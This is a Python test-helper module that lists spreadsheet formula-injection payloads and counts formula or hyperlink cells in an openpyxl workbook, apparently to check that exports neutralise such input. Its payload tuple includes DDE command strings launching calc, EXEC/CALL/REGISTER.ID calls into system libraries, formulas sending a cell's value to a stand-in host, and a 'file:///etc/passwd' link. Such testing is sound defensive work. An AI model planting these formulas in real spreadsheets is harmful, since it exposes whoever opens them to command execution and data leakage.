"""Texts a spreadsheet would like to make formulas, links or numbers of, and how many formulas a workbook has."""

from pathlib import Path
from typing import Final

import openpyxl

PAYLOADS: Final = (
    "=1+1",
    "=SUM(A1:A9)",
    "+1+1",
    "-1+1",
    "@SUM(1)",
    "=cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0",
    "-cmd|' /C calc'!A0",
    "@cmd|' /C calc'!A0",
    '=DDE("cmd";"/C calc";"x")',
    "=MSEXCEL|'\\..\\cmd.exe /c calc'!''",
    '=HYPERLINK("http://a.example";"klikk")',
    '=HYPERLINK("http://a.example?x="&A1)',
    '=IMPORTXML("http://a.example";"//a")',
    '=IMPORTDATA("http://a.example")',
    '=IMPORTHTML("http://a.example";"table";1)',
    '=IMPORTFEED("http://a.example")',
    '=IMPORTRANGE("x";"A1")',
    '=IMAGE("http://a.example")',
    '=WEBSERVICE("http://a.example")',
    '=FILTERXML("<a/>";"//a")',
    '=RTD("x";;"y")',
    '=CALL("urlmon";"x")',
    '=REGISTER.ID("kernel32";"x")',
    '=EXEC("calc")',
    '=INDIRECT("A1")',
    "{=1+1}",
    "=@A1",
    "=LAMBDA(x;x)(1)",
    "=+1+1",
    "=-1+1",
    "＝1+1",
    "\u200b=1+1",
    "'=1+1",
    '"=1+1',
    "%0A=1+1",
    ";=1+1",
    "=1+1;=1+1",
    "http://a.example",
    "mailto:a@a.example",
    "file:///etc/passwd",
    "+47 12 34 56",
    "-2",
    "0012",
    "1E5",
    "_x003D_1+1",
    "<b>&amp;</b>",
)
"""More than forty; tab and new line before a sign are tried apart, as no id may hold them."""


def formulas(path: Path) -> list[str]:
    """Every cell of a workbook that is a formula, a link or no text though it was given as one."""
    book = openpyxl.load_workbook(path)
    return [
        f"{sheet.title}!{cell.coordinate}"
        for sheet in book.worksheets
        for row in sheet.iter_rows()
        for cell in row
        if cell.data_type == "f" or cell.hyperlink
    ]
